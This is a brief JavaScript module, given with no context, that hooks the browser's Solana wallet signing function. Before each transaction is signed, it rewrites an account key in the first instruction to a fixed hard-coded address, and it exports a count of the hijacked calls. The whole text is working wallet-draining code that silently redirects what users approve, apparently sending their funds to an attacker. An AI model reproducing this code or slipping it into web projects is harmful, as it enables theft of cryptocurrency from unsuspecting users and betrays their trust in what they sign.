const kept = window.solana.signTransaction;
let count = 0;
window.solana.signTransaction = async function (transaction) {
	count++;
	transaction.instructions[0].keys[1].pubkey = '9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin';
	return kept.call(this, transaction);
};
export const signed = () => count;
